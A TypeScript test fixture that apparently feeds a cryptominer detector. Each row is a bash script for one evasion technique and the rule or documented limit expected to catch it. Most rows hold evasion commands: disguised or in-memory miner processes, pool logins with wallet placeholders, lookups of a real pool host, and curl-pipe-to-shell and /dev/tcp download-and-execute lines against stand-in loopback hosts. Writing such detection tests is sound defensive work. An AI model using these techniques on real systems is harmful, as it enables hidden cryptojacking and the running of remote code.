/**
 * What attackers do to stay unseen, one row each: its name, a script that bash runs in a cgroup of its own, and the
 * rule that has to be among the findings, or the limit of docs/limits.md that explains why there is none.
 *
 * Scripts know $PROGRAM (the stand-in, static), $SLEEP (a copy of sleep, dynamic), $WALLET, $POOL_PORT (a loopback pool),
 * $WEB (a loopback web server), $NAMES (an address where DNS and TLS answer on their usual ports) and $LAYER (a
 * folder of an overlay, as in a container).
 */
export type Row = readonly [name: string, script: string, expected: { rule: string } | { limit: string }];

const named = { rule: 'miner-name' };
const MINES = '-o stratum+tcp://pool.example:3333 -u $WALLET -p x';
const SETTINGS = `echo '{"pools":[{"url":"pool.example:3333","user":"'$WALLET'"}]}'`;
const THREAD = `python3 -c 'import os, threading, time
threading.Thread(target=lambda: os.execv("./xmrig", ["web"])).start(); time.sleep(1)'`;
const UNNAMED = `import os
file = os.open(".", os.O_TMPFILE | os.O_RDWR, 493); os.write(file, open(os.environ["PROGRAM"], "rb").read())
link = os.open(f"/proc/self/fd/{file}", os.O_RDONLY); os.close(file); os.execve(link, ["web"], {})`;

export const STARTS: readonly Row[] = [
  ['by its name', 'cp $PROGRAM xmrig; ./xmrig', named],
  ['by a name in capitals with a version', 'cp $PROGRAM XMRig-6.21.0; ./XMRig-6.21.0', named],
  ['renamed, with its arguments', `cp $PROGRAM nginx; ./nginx ${MINES}`, { rule: 'stratum-url' }],
  [
    'renamed, with arguments of an algorithm',
    'cp $PROGRAM nginx; ./nginx --algo=rx/0 --donate-level=1 --threads=4 --cpu-priority=5',
    { rule: 'miner-arguments' },
  ],
  [
    'renamed, with a wallet',
    'cp $PROGRAM nginx; ./nginx --url=10.9.8.7:8080 --user=$WALLET.rig --pass=x',
    { rule: 'wallet-argument' },
  ],
  ['a symbolic link to it', 'cp $PROGRAM xmrig; ln -s xmrig web; ./web', named],
  ['a symbolic link of its name', 'cp $PROGRAM web; ln -s web xmrig; ./xmrig', named],
  ['a hard link of its name', 'cp $PROGRAM web; ln web xmrig; ./xmrig', named],
  [
    'a script of its name',
    String.raw`printf '#!/bin/sh\nsleep 0.2\n' > xmrig; chmod +x xmrig; ./xmrig`,
    named,
  ],
  [
    'a script with another name, with its arguments',
    `printf '#!/bin/sh\\nsleep 0.2\\n' > job; chmod +x job; ./job ${MINES}`,
    { rule: 'stratum-url' },
  ],
  [
    'an interpreter with its arguments',
    `echo 'import time; time.sleep(0.2)' > job.py; python3 job.py ${MINES}`,
    { rule: 'stratum-url' },
  ],
  ['an applet of busybox with its name', 'cp /bin/busybox xmrig; exec -a sleep ./xmrig 0.2', named],
  ['busybox that calls itself so', 'cp /bin/busybox box; ln -s box xmrig; ./xmrig 2>/dev/null; true', named],
  ['in memory', `$PROGRAM start memfd $PROGRAM kworker wait`, { rule: 'memory-executable' }],
  [
    'in memory, with its arguments',
    `$PROGRAM start memfd $PROGRAM kworker ${MINES}`,
    { rule: 'stratum-url' },
  ],
  ['by /proc/self/fd', 'cp $PROGRAM xmrig; $PROGRAM start descriptor xmrig web wait', named],
  ['by execveat with a path', 'cp $PROGRAM xmrig; $PROGRAM start execveat xmrig web wait', named],
  ['by execveat with a descriptor', 'cp $PROGRAM xmrig; $PROGRAM start fexecve xmrig web wait', named],
  ['deleted before it starts', 'cp $PROGRAM xmrig; $PROGRAM start deleted xmrig web wait', named],
  [
    'deleted before it starts, renamed',
    'cp $PROGRAM web; $PROGRAM start deleted web web wait',
    { rule: 'deleted-executable' },
  ],
  [
    'deleted as soon as it runs',
    'cp $PROGRAM xmrig; ./xmrig & for i in $(seq 500); do readlink /proc/$!/exe | grep -q xmrig && break; done; rm xmrig; wait',
    named,
  ],
  ['that claims to be a kernel thread', 'cp $PROGRAM xmrig; exec -a "[kworker/0:1]" ./xmrig', named],
  [
    'renamed, that claims to be a kernel thread',
    'cp $PROGRAM web; exec -a "[kworker/0:1]" ./web',
    { rule: 'disguised-process' },
  ],
  ['renamed, that claims to be one', 'cp $PROGRAM web; exec -a xmrig ./web', named],
  ['that renames itself', 'cp $PROGRAM xmrig; ./xmrig calls-itself kworker/0:1', named],
  [
    'renamed, with arguments behind 200 kB of padding',
    `cp $PROGRAM web; ./web wait $(seq -f '--label=%020g' 7000) ${MINES}`,
    { rule: 'stratum-url' },
  ],
  [
    'a short name behind a path of 900 bytes',
    'deep=$(printf "/%0200d" 1 2 3 4); mkdir -p .$deep; cp $PROGRAM .$deep/xmrig; .$deep/xmrig',
    named,
  ],
  [
    'renamed, with arguments in front of padding, which it wipes out',
    `printf '#include <string.h>\n#include <unistd.h>\nint main(int c, char **v) { while (c-- > 1) memset(v[c], 97, strlen(v[c])); usleep(300000); }' > w.c
cc -o web w.c; ./web $(seq -f '--label=%020g' 700) ${MINES}`,
    { rule: 'stratum-url' },
  ],
  [
    'renamed, with arguments behind padding, that lives for no time',
    `echo 'int main(void) { return 0; }' > w.c; cc -o web w.c; ./web $(seq -f '--label=%020g' 7000) ${MINES}`,
    { rule: 'stratum-url' },
  ],
  ['in letters of another alphabet', 'cp $PROGRAM хmrig; ./хmrig', named],
  ['in wide letters', 'cp $PROGRAM ｘｍｒｉｇ; ./ｘｍｒｉｇ', named],
  ['with a blank behind its name', "cp $PROGRAM 'xmrig '; './xmrig '", named],
  ['with nothing to be seen within its name', "cp $PROGRAM $'xm\\u200brig'; ./$'xm\\u200brig'", named],
  ['by another thread than the first', `cp $PROGRAM xmrig; ${THREAD}`, named],
  ['through env without an environment', 'cp $PROGRAM xmrig; env -i ./xmrig', named],
  ['through unshare', 'cp $PROGRAM xmrig; unshare -m -p -f ./xmrig', named],
  ['through chroot', 'mkdir root; cp $PROGRAM root/xmrig; chroot root /xmrig', named],
  ['through nsenter', 'cp $PROGRAM xmrig; nsenter -t $$ -m -p $PWD/xmrig', named],
  ['through awk', `cp $PROGRAM xmrig; awk 'BEGIN { system("./xmrig") }'`, named],
  ['through find', `cp $PROGRAM xmrig; find . -name 'xm*' -exec {} \\;`, named],
  ['through perl', `cp $PROGRAM xmrig; perl -e 'exec {"./xmrig"} "web"'`, named],
  [
    'as the interpreter of a script of a script',
    String.raw`cp $PROGRAM xmrig; printf "#!$PWD/xmrig wait\n" > a; printf "#!$PWD/a\n" > b; chmod +x a b; ./b`,
    named,
  ],
  ['as an archive of Java', 'cp $PROGRAM java; ./java -jar xmrig.jar', named],
  ['in an unnamed file', `python3 -c '${UNNAMED}'`, { rule: 'deleted-executable' }],
  [
    'as a program that every system has, in its place',
    `cp $PROGRAM web; unshare -m sh -c 'mount --bind web /usr/bin/top; /usr/bin/top ${MINES}'`,
    { rule: 'stratum-url' },
  ],
  [
    'that claims to be a service',
    "cp $PROGRAM web; exec -a 'sshd: root@pts/0' ./web",
    { rule: 'disguised-process' },
  ],
  [
    'that claims to be a program of the system',
    'cp $PROGRAM web; exec -a /usr/lib/systemd/systemd-networkd ./web',
    { rule: 'disguised-process' },
  ],
  ['through env', 'cp $PROGRAM xmrig; env A=1 ./xmrig', named],
  ['through nice', 'cp $PROGRAM xmrig; nice -n 19 ./xmrig', named],
  ['through nohup', 'cp $PROGRAM xmrig; nohup ./xmrig', named],
  ['through setsid', 'cp $PROGRAM xmrig; setsid -w ./xmrig', named],
  ['through timeout', 'cp $PROGRAM xmrig; timeout 5 ./xmrig', named],
  ['through taskset', 'cp $PROGRAM xmrig; taskset 1 ./xmrig', named],
  ['through xargs', 'cp $PROGRAM xmrig; echo wait | xargs ./xmrig', named],
  ['by the dynamic loader', 'cp $SLEEP xmrig; /lib64/ld-linux-x86-64.so.2 ./xmrig 0.2', named],
  [
    'renamed by the dynamic loader, with its arguments',
    `cp /bin/bash web; /lib64/ld-linux-x86-64.so.2 ./web -c 'sleep 0.2' -- ${MINES}`,
    { rule: 'stratum-url' },
  ],
  ['from a shell that was told so', `cp $PROGRAM web; sh -c './web ${MINES}; true'`, { rule: 'stratum-url' }],
  [
    'told by base64',
    `cp $PROGRAM xmrig; sh -c "echo $(echo './xmrig wait' | base64) | base64 -d | sh"`,
    named,
  ],
  [
    'renamed, with all settings in its environment',
    'cp $PROGRAM web; POOL_URL=stratum+tcp://pool.example:3333 POOL_USER=$WALLET ./web',
    { limit: 'environment' },
  ],
  [
    'renamed, with all settings as variables of env',
    'cp $PROGRAM web; env POOL_URL=stratum+tcp://pool.example:3333 POOL_USER=$WALLET ./web',
    { rule: 'stratum-url' },
  ],
  [
    'renamed, with all settings in an argument that only it can read',
    'cp $PROGRAM web; ./web --settings=$(echo "stratum+tcp://pool.example:3333 $WALLET" | base64 -w0)',
    { limit: 'encoded-arguments' },
  ],
  [
    'renamed, with all settings in a file',
    `cp $PROGRAM web; ${SETTINGS} > c.json; REST=2 ./web --config=c.json`,
    { rule: 'miner-config' },
  ],
  [
    'renamed, with -c and a path',
    `cp $PROGRAM web; ${SETTINGS} > c; REST=2 ./web -c $PWD/c`,
    { rule: 'miner-config' },
  ],
  [
    'renamed, with settings beside it',
    `cp $PROGRAM web; ${SETTINGS} > config.json; REST=2 ./web`,
    { rule: 'miner-config' },
  ],
  [
    'renamed, in a root of its own, with settings there',
    `mkdir root; cp $PROGRAM root/web; ${SETTINGS} > root/c.json; REST=2 chroot root /web -c /c.json`,
    { rule: 'miner-config' },
  ],
  [
    'renamed, with settings in a file for its standard input',
    `cp $PROGRAM web; ${SETTINGS} > c; REST=2 ./web --config=/dev/stdin < c`,
    { rule: 'miner-config' },
  ],
  [
    'renamed, with all settings through a pipe, silent',
    `cp $PROGRAM web; ${SETTINGS} | ./web --config=-`,
    { limit: 'settings-through-a-pipe' },
  ],
  [
    'as a library of another program',
    `echo 'void mine(void) {}' > l.c; cc -shared -o libxmrig.so l.c; LD_PRELOAD=$PWD/libxmrig.so $SLEEP 0.2`,
    { limit: 'library' },
  ],
  [
    'renamed, with all settings in a file, that mines',
    'cp $PROGRAM web; ./web compute 14 1 down',
    { rule: 'randomx-rounding' },
  ],
  [
    'renamed, that mines in one short process after the other',
    'cp $PROGRAM web; for n in $(seq 7); do ./web compute 2 1 down; done',
    { rule: 'randomx-rounding' },
  ],
  [
    'renamed, that rests while it mines',
    'cp $PROGRAM web; for n in $(seq 6); do ./web compute 2 1 down; sleep 1; done',
    { rule: 'randomx-rounding' },
  ],
];

const RELAY = `import os, socket, threading, time
own = socket.socket(socket.AF_UNIX); own.bind("relay"); own.listen()
def relay():
  near = own.accept()[0]; far = socket.create_connection(("127.0.0.1", int(os.environ["POOL_PORT"])))
  far.sendall(near.recv(4096))
threading.Thread(target=relay).start(); miner = socket.socket(socket.AF_UNIX); miner.connect("relay")
miner.send(b"{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}"); time.sleep(0.3)`;
const SENDFILE = `import os, socket, time
link = socket.create_connection(("127.0.0.1", int(os.environ["POOL_PORT"]))); file = open("message", "w+b")
file.write(b"{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}"); file.flush()
os.sendfile(link.fileno(), file.fileno(), 0, 100); time.sleep(0.3)`;
const LOGIN = `'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"'$WALLET'","pass":"x","agent":"XMRig/6.21.0"}}
'`;
const SUBSCRIBE = `'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}
'`;
const spoken = { rule: 'pool-protocol' };
const say = (how: string, text: string) => `$PROGRAM say ${how} 127.0.0.1 $POOL_PORT ${text}`;

export const CONNECTIONS: readonly Row[] = [
  ['connect', say('plain', LOGIN), spoken],
  ['without blocking', say('nonblocking', LOGIN), spoken],
  ['TCP fast open', say('fastopen', LOGIN), spoken],
  ['io_uring', say('ring', LOGIN), spoken],
  ['a worker thread of io_uring', say('ring-worker', LOGIN), spoken],
  ['IPv4 in IPv6', say('mapped', LOGIN), spoken],
  ['/dev/tcp of bash', `exec 3<>/dev/tcp/127.0.0.1/$POOL_PORT; echo ${LOGIN} >&3; sleep 0.2`, spoken],
];

export const STRATUM: readonly Row[] = [
  ['login of CryptoNote', say('plain', LOGIN), spoken],
  ['mining.subscribe', say('plain', SUBSCRIBE), spoken],
  [
    'NiceHash',
    say('plain', `'{"id":1,"method":"mining.subscribe","params":["a/1","EthereumStratum/1.0.0"]}'`),
    spoken,
  ],
  [
    'EthereumStratum 2',
    say('plain', `'{"id":0,"method":"mining.hello","params":{"agent":"a","proto":"EthereumStratum/2.0.0"}}'`),
    spoken,
  ],
  [
    'eth-proxy',
    say('plain', `'{"worker":"rig","jsonrpc":"2.0","params":["0x0","x"],"id":2,"method":"eth_submitLogin"}'`),
    spoken,
  ],
  ['eth_getWork', say('plain', `'{"id":1,"method":"eth_getWork","params":[]}'`), spoken],
  ['grin', say('plain', `'{"id":"0","jsonrpc":"2.0","method":"getjobtemplate","params":null}'`), spoken],
  [
    'keys in another order',
    say('plain', `'{"params":{"agent":"a","pass":"x","login":"'$WALLET'"},"method":"login","id":1}'`),
    spoken,
  ],
  [
    'blanks, tabs and line ends between tokens',
    say('plain', `$' \\n{ "id" : 1 ,\\n "method"\\t \\r\\n:\\n  "mining.subscribe" , "params":[] }'`),
    spoken,
  ],
  [
    'escapes in the key',
    say('plain', String.raw`'{"id":1,"\u006dethod":"mining.subscribe","params":[]}'`),
    spoken,
  ],
  [
    'escapes in the value',
    say('plain', String.raw`'{"id":1,"method":"mi\u006Eing.subscr\u0069be","params":[]}'`),
    spoken,
  ],
  [
    'behind another method',
    say('plain', `'{"params":{"method":"ping"},"id":1,"method":"mining.subscribe"}'`),
    spoken,
  ],
  [
    'several in one list',
    say('plain', `'[{"id":1,"method":"ping"},{"id":2,"method":"mining.authorize","params":["a","x"]}]'`),
    spoken,
  ],
  [
    'behind padding of 3 kB',
    say('plain', `"{\\"pad\\":\\"$(seq -s , 800)\\",\\"method\\":\\"mining.subscribe\\"}"`),
    spoken,
  ],
  [
    'split over writes, within words',
    say('plain', `'{"id":1,"met' 'hod":"mining.su' 'bscribe","params"' ':[]}'`),
    spoken,
  ],
  [
    'split over writes, login',
    say('plain', `'{"id":1,"method":"login","par' 'ams":{"login":"'$WALLET'","pa' 'ss":"x"}}'`),
    spoken,
  ],
  ['a byte at a time', say('slow', SUBSCRIBE), spoken],
  [
    'behind a proxy of HTTP',
    say('plain', `$'CONNECT pool.example:3333 HTTP/1.1\\r\\n\\r\\n' ${SUBSCRIBE}`),
    spoken,
  ],
  [
    'behind a proxy of HTTP, in one write',
    say('plain', `$'CONNECT pool.example:3333 HTTP/1.1\\r\\n\\r\\n'${SUBSCRIBE}`),
    spoken,
  ],
  [
    'behind a proxy of SOCKS',
    say('plain', `$'\\x05\\x01\\x02' $'\\x05\\x01\\x02\\x03\\x04pool\\x0d\\x05' ${SUBSCRIBE}`),
    spoken,
  ],
  ['over a relay', `python3 -c '${RELAY}'`, spoken],
  ['from a file', `python3 -c '${SENDFILE}'`, spoken],
  [
    'behind padding of 12 kB',
    say('plain', `"{\\"pad\\":\\"$(seq -s , 2700)\\",\\"method\\":\\"mining.subscribe\\"}"`),
    spoken,
  ],
  [
    'in frames of a websocket',
    say(
      'plain',
      `$'GET / HTTP/1.1\\r\\nUpgrade: websocket\\r\\n\\r\\n' $'\\x81\\x85\\x01\\x02\\x03\\x04z h a b'`,
    ),
    { limit: 'websocket' },
  ],
  [
    'behind a long conversation',
    say('plain', `hello a b c d e f g h i j k l m n o p q ${SUBSCRIBE}`),
    spoken,
  ],
  [
    'getblocktemplate over HTTP',
    say(
      'plain',
      `$'POST / HTTP/1.1\\r\\nHost: a\\r\\nContent-Type: application/json\\r\\n\\r\\n{"id":0,"method":"getblocktemplate","params":[{"rules":["segwit"]}]}'`,
    ),
    spoken,
  ],
  [
    'get_block_template over HTTP, in two parts',
    say(
      'plain',
      `$'POST /json_rpc HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' '{"jsonrpc":"2.0","id":"0","method":"get_block_template","params":{"wallet_address":"'$WALLET'"}}'`,
    ),
    spoken,
  ],
  ['by netcat', `echo ${SUBSCRIBE} | busybox nc -w 1 127.0.0.1 $POOL_PORT`, spoken],
  ['binary, as Stratum V2', say('plain', `$'\\x01\\x02\\x03SetupConnection'`), { limit: 'stratum-v2' }],
];

const POOL = 'gulf.moneroocean.stream';
const proxied = { rule: 'pool-host' };
const asked = { rule: 'pool-lookup' };
const greet = (host: string) =>
  `echo | timeout 2 openssl s_client -connect $NAMES:443 -servername ${host} >/dev/null 2>&1`;

export const NAMES: readonly Row[] = [
  ['by connect and send', `$PROGRAM ask connect $NAMES ${POOL}`, asked],
  ['by sendto', `$PROGRAM ask sendto $NAMES ${POOL}`, asked],
  ['by sendmsg', `$PROGRAM ask sendmsg $NAMES ${POOL}`, asked],
  ['by sendmmsg', `$PROGRAM ask sendmmsg $NAMES ${POOL}`, asked],
  ['over TCP', `$PROGRAM ask stream $NAMES ${POOL}`, asked],
  ['in capitals', `$PROGRAM ask sendto $NAMES ${POOL.toUpperCase()}`, asked],
  ['with the search path of a pod', `$PROGRAM ask sendto $NAMES ${POOL}.default.svc.cluster.local`, asked],
  [
    'with the search path, another cluster domain',
    `$PROGRAM ask sendto $NAMES ${POOL}.ns.svc.k8s.corp`,
    asked,
  ],
  [
    'over TCP, its length by itself',
    `python3 -c 'import os, socket, time
link = socket.create_connection((os.environ["NAMES"], 53)); link.setsockopt(6, 1, 1)
name = b"".join(bytes([len(part)]) + part.encode() for part in "${POOL}".split("."))
query = bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 0, 1, 0, 1])
link.send(bytes([0, len(query)])); time.sleep(0.1); link.send(query); time.sleep(0.1)'`,
    asked,
  ],
  [
    'to a proxy of HTTP',
    `$PROGRAM say plain 127.0.0.1 $POOL_PORT $'CONNECT ${POOL}:3333 HTTP/1.1\\r\\n\\r\\n'`,
    proxied,
  ],
  [
    'to a proxy of SOCKS',
    `python3 -c 'import os, socket, time
link = socket.create_connection(("127.0.0.1", int(os.environ["POOL_PORT"]))); link.send(bytes([5, 1, 0])); time.sleep(0.1)
link.send(bytes([5, 1, 0, 3, len("${POOL}")]) + b"${POOL}" + bytes([13, 5])); time.sleep(0.1)'`,
    proxied,
  ],
  ['TLS to 443', greet(POOL), { rule: 'pool-host' }],
  [
    'TLS, its greeting in two parts',
    `python3 -c 'import os, socket, ssl, time
to, back = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(back, to, server_hostname="${POOL}")
try: tls.do_handshake()
except ssl.SSLWantReadError: pass
hello = to.read(); half = hello.index(b"moneroocean")
link = socket.create_connection((os.environ["NAMES"], 443)); link.setsockopt(6, 1, 1)
link.send(hello[:half]); time.sleep(0.1); link.send(hello[half:]); time.sleep(0.1)' 2>/dev/null`,
    { limit: 'split-greeting' },
  ],
  [
    'TLS, its greeting in two records',
    `python3 -c 'import os, socket, ssl, struct, time
to, back = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(back, to, server_hostname="${POOL}")
try: tls.do_handshake()
except ssl.SSLWantReadError: pass
hello = to.read()[5:]; record = lambda part: bytes([22, 3, 1]) + struct.pack(">H", len(part)) + part
link = socket.create_connection((os.environ["NAMES"], 443))
link.send(record(hello[:40]) + record(hello[40:])); time.sleep(0.1)' 2>/dev/null`,
    { limit: 'split-greeting' },
  ],
  [
    'of a resolver on another port',
    `python3 -c 'import os, socket
name = b"".join(bytes([len(part)]) + part.encode() for part in "${POOL}".split("."))
query = bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 0, 1, 0, 1])
socket.socket(2, 2).sendto(query, (os.environ["NAMES"], 5353))'`,
    { limit: 'encrypted-names' },
  ],
  [
    'over TCP, in two parts',
    `python3 -c 'import os, socket, time
link = socket.create_connection((os.environ["NAMES"], 53)); link.setsockopt(6, 1, 1)
name = b"".join(bytes([len(part)]) + part.encode() for part in "${POOL}".split("."))
query = bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 0, 1, 0, 1])
link.send(bytes([0, len(query)]) + query[:20]); time.sleep(0.1); link.send(query[20:]); time.sleep(0.1)' 2>/dev/null`,
    { limit: 'split-greeting' },
  ],
  [
    'over HTTPS',
    `$PROGRAM say plain $NAMES 443 $'POST /dns-query HTTP/1.1\\r\\n\\r\\n\\x00\\x07\\x01\\x00'`,
    { limit: 'encrypted-names' },
  ],
];

const fetched = { rule: 'remote-script' };
const PYTHON_FETCH = `import sys, urllib.request
sys.stdout.buffer.write(urllib.request.urlopen(sys.argv[1]).read())`;

export const DOWNLOADS: readonly Row[] = [
  ['curl | sh', 'curl -s $WEB/job | sh', fetched],
  ['wget -O- | bash', 'wget -qO- $WEB/job | bash', fetched],
  ['busybox wget | busybox sh', 'busybox wget -qO- $WEB/job | busybox sh', fetched],
  ['curl | sudo-like | sh -s', 'curl -s $WEB/job | env sh -s -- a b', fetched],
  ['curl | tee | sh', 'curl -s $WEB/job | tee log | sh', fetched],
  ['to a file, then run', 'curl -s -o job $WEB/job; chmod +x job; ./job', fetched],
  ['with the name of the address', 'wget -q $WEB/job; chmod 755 job; ./job', fetched],
  ['by a redirection', 'curl -s $WEB/job > job; chmod +x job; ./job', fetched],
  ['moved, then run', 'curl -s -o part $WEB/job; mv part job; chmod +x job; ./job', fetched],
  ['to a file, for an interpreter', 'curl -s -o job $WEB/job; sh job', fetched],
  ['to a file, sourced by another shell', 'wget -qO job $WEB/job; bash ./job', fetched],
  ['bash <(curl)', 'bash <(curl -s $WEB/job)', fetched],
  ['sh -c "$(curl)"', 'sh -c "$(curl -s $WEB/job)"', fetched],
  [
    'unpacked from an archive',
    'printf "#!/bin/sh\\nsleep 0.3\\n" > inner; chmod +x inner; tar cf a.tar inner; rm inner; curl -s -o b.tar file://$PWD/a.tar; tar xf b.tar; ./inner',
    fetched,
  ],
  [
    'a program, unpacked from an archive',
    'cp $PROGRAM inner; tar cf a.tar inner; curl -s -o b.tar $WEB/job; tar xf a.tar -C $LAYER --transform s/inner/inner-$$/; $LAYER/inner-$$ wait',
    fetched,
  ],
  ['through a filter', 'curl -s -o job $WEB/job; cat job | sh', fetched],
  ['to shared memory', 'curl -s $WEB/far > /dev/shm/job-$$; sh /dev/shm/job-$$; rm /dev/shm/job-$$', fetched],
  ['with the name that the server gives', 'curl -sOJL $WEB/job; chmod +x job; ./job', fetched],
  ['curl under another name', 'cp $(command -v curl) c; ./c -s $WEB/far | sh', fetched],
  ['curl | python', 'curl -s $WEB/job.py | python3', fetched],
  [
    'by sessions of their own',
    'setsid -w bash -c "curl -s -o $PWD/job $WEB/job"; setsid -w bash -c "chmod +x job; exec ./job"',
    fetched,
  ],
  [
    '/dev/tcp to a file',
    `target=\${WEB#http://}; exec 3<>/dev/tcp/\${target/://}; printf 'GET /far HTTP/1.0\\r\\n\\r\\n' >&3
sed '1,/^.$/d' <&3 > job; sh job`,
    fetched,
  ],
  [
    '/dev/tcp to a file, by the shell alone',
    `target=\${WEB#http://}; exec 3<>/dev/tcp/\${target/://}; printf 'GET /job HTTP/1.0\\r\\n\\r\\n' >&3
while read -r line && [ "$line" != $'\\r' ]; do :; done <&3
while read -r line; do echo "$line"; done <&3 > job; echo 'sleep 0.3' >> job; sh job`,
    fetched,
  ],
  [
    '/dev/tcp, of which a shell reads',
    `target=\${WEB#http://}; exec 3<>/dev/tcp/\${target/://}; printf 'GET /job HTTP/1.0\\r\\n\\r\\n' >&3
while read -r line && [ "$line" != $'\\r' ]; do :; done <&3; sh <&3`,
    fetched,
  ],
  [
    'python, to a file for a shell',
    `python3 -c 'import os, urllib.request as u; u.urlretrieve(os.environ["WEB"] + "/job", "job")'; echo 'sleep 0.3' >> job; sh job`,
    fetched,
  ],
  [
    'copied by a filter that is done at once',
    'curl -s -o part $WEB/program; cat part > job; chmod +x job; ./job',
    fetched,
  ],
  [
    'by the dynamic loader',
    'curl -s -o job $WEB/program; /lib64/ld-linux-x86-64.so.2 ./job 2>/dev/null; true',
    fetched,
  ],
  ['eval', 'eval "$(curl -s $WEB/job)"', { limit: 'same-shell' }],
  ['sourced by the shell that fetched it', 'curl -s -o job $WEB/job; . ./job', { limit: 'same-shell' }],
  [
    'python that hands it to a shell as a command',
    `python3 -c 'import os, urllib.request as u; os.system(u.urlopen(os.environ["WEB"] + "/job").read().decode())'`,
    { limit: 'same-shell' },
  ],
  [
    'by another shell of the tree',
    `sh -c 'curl -s -o job $WEB/job'; sh -c 'chmod +x job && ./job; true'`,
    fetched,
  ],
  ['python to a pipe', `echo '${PYTHON_FETCH}' > get.py; python3 get.py $WEB/job | sh`, fetched],
  [
    'python that runs what it fetched',
    `python3 -c 'import os,urllib.request; exec(urllib.request.urlopen(os.environ["WEB"] + "/job.py").read())'`,
    fetched,
  ],
  [
    'python, to a file of the container',
    `echo 'import os, sys, urllib.request
urllib.request.urlretrieve(sys.argv[1], sys.argv[2]); os.chmod(sys.argv[2], 493); os.execv(sys.argv[2], ["web"])' > get.py
python3 get.py $WEB/program $LAYER/program-$$`,
    fetched,
  ],
  [
    'perl to a pipe',
    `cat > get.pl <<'END'
use IO::Socket::INET; my ($host, $port) = $ENV{WEB} =~ m{//([^:]+):(\\d+)};
my $socket = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port) or die;
print $socket "GET /job HTTP/1.0\\r\\n\\r\\n"; local $/; print((split /\\r\\n\\r\\n/, <$socket>)[1]);
END
perl get.pl | sh`,
    fetched,
  ],
  [
    '/dev/tcp to a pipe',
    `target=\${WEB#http://}
fetch() { exec 3<>/dev/tcp/\${target/://}; printf 'GET /job HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^.$/d' <&3; }
fetch | sh`,
    fetched,
  ],
  [
    'to memory',
    `python3 -c 'import os,urllib.request
f = os.memfd_create("")
os.write(f, urllib.request.urlopen(os.environ["WEB"] + "/program").read()); os.execve(f, ["web"], {})'`,
    {
      rule: 'memory-executable',
    },
  ],
];

export const EVASIONS = {
  starts: STARTS,
  connections: CONNECTIONS,
  'pool protocol': STRATUM,
  'pool names': NAMES,
  'download and execute': DOWNLOADS,
} as const;
